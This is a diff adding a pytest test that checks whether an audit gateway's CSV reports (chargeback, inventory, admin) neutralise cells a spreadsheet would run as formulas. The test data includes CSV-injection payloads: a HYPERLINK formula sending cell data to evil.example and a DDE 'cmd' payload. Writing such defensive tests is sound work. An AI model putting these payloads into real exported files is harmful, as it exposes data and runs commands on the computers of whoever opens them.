@@ -221,3 +221,29 @@ def test_admin_report_lists_key_lifecycle_in_order_and_the_cli_prints_render(tmp
     with pytest.raises(ReportError) as err:
         render("admin", root, {"to": "soon"})
     assert err.value.param == "to"
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
+                                  "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "x\r=1+1"])
+def test_report_cells_a_spreadsheet_would_run_are_text(name: str) -> None:
+    """A token's user claim (`name`, `email`: often the user's own to set at the IdP), a key's
+    user or an admin's name goes into the CSV reports as recorded: a cell starting with = + - @
+    (or a tab/CR before one) is a formula to Excel and Sheets (CSV injection) when finance opens
+    the chargeback. Such a cell is written with a leading apostrophe; JSON keeps it as recorded."""
+    import csv as csv_mod
+    import io
+
+    from gateway_extproc.audit.reports import admin_csv, inventory_csv
+
+    row = {"requests": 1, "refused": 0, "input_tokens": 1, "output_tokens": 1, "cached_tokens": 0,
+           "cost_usd": "0", "monthly_budget_usd": None, "share_used": None}
+    report = {"teams": [{"team": name, **row, "by_key": [{"key": name, **row}], "by_user": [{"user": name, **row}],
+                         "by_model": [], "by_provider": []}]}
+    texts = [chargeback_csv(report), inventory_csv({"rows": [{"team": name, "model": name, **row}]}),
+             admin_csv({"rows": [{"ts": "t", "actor": name, "action": "create", "key_id": "k", "team": name,
+                                  "config": None, "user": name}]})]
+    for text, rows in zip(texts, (4, 2, 2)):  # the header and each row written, none split
+        read = list(csv_mod.reader(io.StringIO(text, newline="")))
+        cells = [c for r in read for c in r]
+        assert len(read) == rows and name not in cells, text
+        assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells if c), text
